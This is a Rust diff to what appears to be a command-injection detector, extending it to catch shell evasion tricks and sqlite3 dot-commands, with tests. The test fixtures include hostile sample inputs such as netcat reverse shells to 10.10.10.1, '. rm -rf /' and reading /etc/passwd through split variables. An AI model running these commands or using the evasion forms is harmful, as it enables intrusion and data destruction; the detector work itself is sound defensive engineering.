@@ -1289,6 +1289,21 @@ fn lex_word(s: &[u8], mut i: usize, out: &mut Lexed) -> usize {
     while i < s.len() {
         let b = s[i];
         match b {
+            // An empty substitution inside a word (`pi``ng`, `ping`` x`)
+            // expands to nothing: the word goes on.
+            b'`' if i > start
+                && s.get(i + 1) == Some(&b'`')
+                && out
+                    .pieces
+                    .iter()
+                    .filter(|p| matches!(p, Piece::Op(Op::Backtick)))
+                    .count()
+                    % 2
+                    == 0 =>
+            {
+                evasive = true;
+                i += 2;
+            }
             b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b')'
             | 0x0b | 0x0c => break,
             b'(' if i > start => break,
@@ -1346,7 +1361,32 @@ fn lex_word(s: &[u8], mut i: usize, out: &mut Lexed) -> usize {
                 // `${IFS}`, `$IFS`, `$@`, `$1`, `$$`, `$?`, `$_`: blanks or
                 // nothing to the shell (`c$_at` runs `cat`).
                 let rest = &s[i + 1..(i + 33).min(s.len())];
-                let skip = if rest.starts_with(b"{ifs") {
+                // `$SHELL -c ...`: the user's shell.
+                if i == start && (rest.starts_with(b"shell") || rest.starts_with(b"{shell}")) {
+                    let n = if rest[0] == b'{' { 8 } else { 6 };
+                    if s.get(i + n).is_none_or(|c| !c.is_ascii_alphanumeric()) {
+                        out.text.push_str("sh");
+                        i += n;
+                        continue;
+                    }
+                }
+                // An unset variable inside a word (`uname$u`, `c$u\at`)
+                // expands to nothing; `$()` too.
+                let name_len = rest
+                    .iter()
+                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
+                    .count();
+                let inner_variable = i > start
+                    && s[start] != b'$'
+                    && s[i - 1].is_ascii_alphanumeric()
+                    && name_len > 0
+                    && name_len < 8
+                    && rest[0].is_ascii_alphabetic();
+                let skip = if rest.starts_with(b"()") {
+                    Some(3)
+                } else if inner_variable && !rest.starts_with(b"ifs") {
+                    Some(name_len + 1)
+                } else if rest.starts_with(b"{ifs") {
                     memchr::memchr(b'}', rest).map(|p| p + 2)
                 } else if rest.starts_with(b"ifs") {
                     Some(4)
@@ -1532,8 +1572,12 @@ fn brace_command(lower: &str) -> Option<usize> {
             arg.push_str(suffix);
             shell_shaped(&arg, base)
         });
+        // An empty alternative (`{id,}`, `{,echo,x}`) or a brace inside a
+        // word (`c{a,oun}t`) is written for the shell, not as a list.
+        let crafted =
+            inner.split(',').any(str::is_empty) || !prefix.is_empty() || !suffix.is_empty();
         if let Some((ambiguous, _)) = command(base)
-            && (!ambiguous || shaped_arg)
+            && (!ambiguous || shaped_arg || crafted)
         {
             return Some(open);
         }
@@ -1664,6 +1708,29 @@ pub(crate) fn inspect(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'
             p..(p + 32).min(lower.len()),
         );
     }
+    // The plain loop over a set: `for %v in (set) do cmd` (`%%v` in a
+    // batch file); no prose puts a `%` name between `for` and `in (`.
+    if let Some(p) = crate::text::find(lower, "for %")
+        && let Some(rest) = lower.get(p + 5..(p + 128).min(lower.len()))
+        && let Some(var) = rest.trim_start_matches('%').split(' ').next()
+        && !var.is_empty()
+        && var.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+        && rest.trim_start_matches('%')[var.len()..].starts_with(" in (")
+        && crate::text::contains(rest, ") do ")
+    {
+        sink.report(
+            &rules::RCE_WINDOWS_COMMAND,
+            lower,
+            p..(p + 32).min(lower.len()),
+        );
+    }
+    if let Some(p) = sqlite_dot_command(lower) {
+        sink.report(
+            &rules::RCE_COMMAND_CHAIN,
+            lower,
+            p..(p + 32).min(lower.len()),
+        );
+    }
     for var in ["%comspec%", "%systemroot%", "%windir%", "%programfiles%"] {
         if let Some(p) = crate::text::find(lower, var) {
             sink.report(&rules::RCE_WINDOWS_COMMAND, lower, p..p + var.len());
@@ -1691,6 +1758,11 @@ fn commands(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'_>) {
     let mut substitutions_open = 0usize;
     // The word after a wrapper (`time`, `nohup`, `sudo`, ...) is a command too.
     let mut wrapped: Option<Option<Op>> = None;
+    // The previous word was a lone variable in command position.
+    let mut after_spacer = false;
+    // Shell assignments seen in command position (`a=nc`), most recent last.
+    let mut assigned: [(&str, &str); 8] = [("", ""); 8];
+    let mut n_assigned = 0;
     for (idx, piece) in pieces.iter().enumerate() {
         match piece {
             Piece::Op(op) => {
@@ -1751,8 +1823,48 @@ fn commands(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'_>) {
                 let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
                 let base = base.strip_suffix(".exe").unwrap_or(base);
                 let known = command(base).or_else(|| command(strip_version(base)));
-                if is_wrapper(base) && matches!(pieces.get(idx + 1), Some(Piece::Word { .. })) {
+                // A variable alone in command position (`;$a cat x`) is
+                // most likely unset, a blank before the real command.
+                let spacer = variable_names(word) == Some(1);
+                // `a=nc&&$a -nlvp 555`: a variable set to a command earlier
+                // in the value, then run.
+                if spacer
+                    && let Some((_, value)) = assigned[..n_assigned]
+                        .iter()
+                        .find(|(name, _)| *name == &word[1..])
+                    && command(value).is_some()
+                {
+                    sink.report(
+                        &rules::RCE_EVASION,
+                        lower,
+                        *start..(*end + 24).min(lower.len()),
+                    );
+                    continue;
+                }
+                if let Some((name, value)) = word.split_once('=')
+                    && n_assigned < assigned.len()
+                    && !name.is_empty()
+                    && name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+                    && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+                {
+                    assigned[n_assigned] = (name, value);
+                    n_assigned += 1;
+                }
+                if (is_wrapper(base) || spacer)
+                    && matches!(pieces.get(idx + 1), Some(Piece::Word { .. }))
+                {
                     wrapped = Some(position);
+                    after_spacer = spacer && position.is_some();
+                }
+                // `$c1$c2$c3...`, `$a$b`: a command spelled from variables
+                // set piece by piece.
+                if variable_names(word).is_some_and(|n| n >= 2) {
+                    sink.report(
+                        &rules::RCE_EVASION,
+                        lower,
+                        *start..(*end + 24).min(lower.len()),
+                    );
+                    continue;
                 }
                 let path_like = word.starts_with('/') || crate::text::contains(word, ":\\");
                 // Most words in command position are not commands: judge
@@ -1790,7 +1902,7 @@ fn commands(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'_>) {
                 let Some((ambiguous, windows)) = known else {
                     continue;
                 };
-                if *evasive {
+                if *evasive || std::mem::take(&mut after_spacer) {
                     sink.report(&rules::RCE_EVASION, lower, span.clone());
                     continue;
                 }
@@ -1971,10 +2083,29 @@ fn bracket(pattern: &[u8], c: u8) -> Option<(usize, bool)> {
 }
 
 /// Commands that run the command after them (`time sh -c id`).
+/// How many `$name` references a word is made of, when it is nothing else
+/// (`$a` → 1, `$c1$c2$c3` → 3, `$5`, `a$b` → none).
+fn variable_names(word: &str) -> Option<usize> {
+    let rest = word.strip_prefix('$')?;
+    let mut n = 0;
+    for name in rest.split('$') {
+        let ok = name.len() <= 16
+            && name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
+        if !ok {
+            return None;
+        }
+        n += 1;
+    }
+    Some(n)
+}
+
 fn is_wrapper(name: &str) -> bool {
     matches!(
         name,
-        "time"
+        // `.` and `source` run a file: `. rm -rf /` still reads as a command.
+        "." | "source"
+            | "time"
             | "nohup"
             | "strace"
             | "ltrace"
@@ -1994,6 +2125,64 @@ fn is_wrapper(name: &str) -> bool {
             | "pkexec"
             | "runuser"
     )
+}
+
+/// The sqlite3 shell's dot-commands that run programs, read or write files
+/// or dump the database (`.shell`, `.system`, `.sh`, `.load`, `.dump`...).
+const SQLITE_DOT_COMMANDS: &[&str] = &[
+    "shell",
+    "system",
+    "sh",
+    "databases",
+    "tables",
+    "dump",
+    "load",
+    "read",
+    "output",
+    "once",
+    "import",
+    "open",
+    "schema",
+    "backup",
+    "restore",
+    "excel",
+];
+
+/// A sqlite3 dot-command at the start of a statement: after `;` or a line
+/// break (blanks, a literal `\n` and an opening quote allowed), `.shell
+/// nc ...`, `1;.sh whoami`, `;\n.databases`: a value that reaches the
+/// sqlite3 command-line shell runs programs this way.
+fn sqlite_dot_command(lower: &str) -> Option<usize> {
+    let s = lower.as_bytes();
+    for p in memchr::memchr_iter(b'.', s) {
+        // Walk back over blanks and literal `\n` to a statement end.
+        let mut j = p;
+        loop {
+            if j > 0 && matches!(s[j - 1], b' ' | b'\t' | b'\r' | b'\n') {
+                j -= 1;
+            } else if j > 1 && s[j - 1] == b'n' && s[j - 2] == b'\\' {
+                j -= 2;
+            } else {
+                break;
+            }
+        }
+        if j == 0 || !matches!(s[j - 1], b';' | b'\n') {
+            continue;
+        }
+        let mut k = p + 1;
+        while k < s.len() && k <= p + 3 && matches!(s[k], b'"' | b'\'' | b'\\') {
+            k += 1;
+        }
+        let word_len = s[k..].iter().take_while(|b| b.is_ascii_lowercase()).count();
+        let word = &lower[k..k + word_len];
+        let boundary = s
+            .get(k + word_len)
+            .is_none_or(|b| matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\\' | b'"' | b'\''));
+        if boundary && SQLITE_DOT_COMMANDS.contains(&word) {
+            return Some(j - 1);
+        }
+    }
+    None
 }
 
 /// `python3.10` → `python`, `gcc7.4` → `gcc`: versioned binary names.
@@ -2452,6 +2641,87 @@ mod tests {
             "id 12345",
         ] {
             assert_clean(benign);
+        }
+    }
+}
+
+#[cfg(test)]
+mod expansion_tests {
+    use crate::tests::{assert_clean, assert_detects};
+
+    #[test]
+    fn empty_substitutions_and_unset_variables_join_words() {
+        for v in [
+            "ping`` 127.0.0.1",
+            "pi``ng 127.0.0.1",
+            "ping$() 127.0.0.1",
+            "pi$()ng 127.0.0.1",
+            "uname$u -a",
+        ] {
+            assert_detects(v, "rce.evasion");
+        }
+        assert_detects("`cut crs312``dig 34test`", "rce.substitution");
+        for v in [
+            ";$a cat $a $at test.txt",
+            ";$a cat test.txt",
+            "|$u wget test",
+        ] {
+            assert_detects(v, "rce.evasion");
+        }
+        assert_detects("$SHELL -c \"echo hi\"", "rce.unix_command");
+        assert_detects("${SHELL} -c \"echo hi\"", "rce.unix_command");
+        assert_detects("ifconfig;. rm -rf /;", "rce.command_chain");
+        assert_detects("a=nc&&$a -nlvp 555", "rce.evasion");
+        assert_detects("a=/et;b=c/passwd;cat $a$b", "rce.command_chain");
+        assert_detects("x=ls;$a$b", "rce.evasion");
+        assert_clean("total=5; $a is unknown");
+        assert_detects("c4=x;c3=t;c2=a;c1=c;$c1$c2$c3$c4", "rce.evasion");
+        for v in [
+            "use `` for an empty code span",
+            "total $a (approx)",
+            "price$5 each",
+            "source code is open",
+            "$name joined the team",
+            "the $ sign",
+        ] {
+            assert_clean(v);
+        }
+    }
+
+    #[test]
+    fn crafted_brace_expansion() {
+        for v in ["c{a,oun}t", "{id,}", "{,echo,#test}", "{,ls,-la,}"] {
+            assert_detects(v, "rce.evasion");
+        }
+        for v in ["{fish,chips}", "{cat,dog}", "file{1,2}.txt", "{a,b,c}"] {
+            assert_clean(v);
+        }
+    }
+
+    #[test]
+    fn cmd_for_loops_and_sqlite_dot_commands() {
+        for v in [
+            "for %variable in (set) do command",
+            "for %%v in (a b) do echo %%v",
+        ] {
+            assert_detects(v, "rce.windows_command");
+        }
+        for v in [
+            ";\n.shell nc 10.10.10.1 6666 -e sh\n",
+            ";\\n.system nc 10.10.10.1 6666 -e sh",
+            ";\\n.databases",
+            "1;.sh whoami",
+            "1;.\\\"shell whoami",
+        ] {
+            assert_detects(v, "rce.command_chain");
+        }
+        for v in [
+            "for 100% in (cash) do it",
+            "shipped; .net runtime updated",
+            "see p.12;.5 mm",
+            "version 1.2;.3",
+        ] {
+            assert_clean(v);
         }
     }
 }
